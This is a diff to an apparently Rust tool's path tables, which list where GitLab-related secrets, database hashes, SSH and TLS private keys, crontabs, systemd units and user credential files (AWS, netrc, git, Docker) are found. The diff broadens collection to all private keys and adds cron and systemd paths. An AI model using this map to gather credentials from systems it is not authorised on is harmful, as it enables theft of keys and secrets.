@@ -100,6 +100,7 @@ pub const PLACES: &[Place] = &[
     own("/var/opt/gitlab/pgbouncer/userlist*", Format::Hashes, "db"),
     own("/var/opt/gitlab/pgbouncer/*.ini", Format::Lines, "pgbouncer"),
     own("/var/opt/gitlab/redis/redis.conf", Format::Lines, "redis"),
+    own("/var/opt/gitlab/redis/*.conf", Format::Lines, "redis"),
     own("/var/opt/gitlab/redis/*.acl", Format::Lines, "redis"),
     own("/var/opt/gitlab/sentinel/sentinel.conf", Format::Lines, "sentinel"),
     own("/var/opt/gitlab/consul/*.json", Format::Json, "consul"),
@@ -123,8 +124,9 @@ pub const PLACES: &[Place] = &[
     own("/opt/gitlab/sv/*/env/*", Format::Named, ""),
     own("/opt/gitlab/sv/*/run", Format::Lines, ""),
     own("/opt/gitlab/embedded/nodes/*.json", Format::Json, ""),
+    // Most often links to files that were read already.
+    beside("/opt/gitlab/embedded/service/*/.gitlab_*_secret", Format::Value, ""),
 
-    own("/opt/gitlab/embedded/service/*/.gitlab_*_secret", Format::Value, ""),
 
     // Source installation
     own("/home/git/gitlab/config/database.yml", Format::Yaml, "db"),
@@ -166,7 +168,13 @@ pub const PLACES: &[Place] = &[
     beside("/etc/nginx/conf.d/*gitlab*", Format::Lines, "nginx"),
     beside("/etc/nginx/sites-enabled/*gitlab*", Format::Lines, "nginx"),
     beside("/etc/ssh/ssh_host_*_key", Format::Key, ""),
-    beside("/etc/ssl/private/*gitlab*", Format::Key, ""),
+    beside("/etc/ssl/private/*", Format::Key, ""),
+    beside("/etc/pki/tls/private/*", Format::Key, ""),
+    beside("/etc/letsencrypt/live/*/privkey.pem", Format::Key, ""),
+    beside("/etc/systemd/system/*.service", Format::Lines, ""),
+    beside("/etc/systemd/system/*/*.conf", Format::Lines, ""),
+    beside("/etc/cron.d/*", Format::Lines, ""),
+    beside("/etc/crontab", Format::Lines, ""),
     beside("/etc/environment", Format::Lines, ""),
     beside("/var/spool/cron/crontabs/git", Format::Lines, ""),
     beside("/var/spool/cron/crontabs/root", Format::Lines, ""),
@@ -182,6 +190,7 @@ pub const IN_HOMES: &[Place] = &[
     beside(".mylogin.cnf", Format::Key, "mysql"),
     beside(".netrc", Format::Netrc, "netrc"),
     beside(".aws/credentials", Format::Lines, "aws"),
+    beside(".aws/config", Format::Lines, "aws"),
     beside(".docker/config.json", Format::Json, "registry"),
     beside(".git-credentials", Format::Lines, "git"),
     beside(".s3cfg", Format::Lines, "s3"),
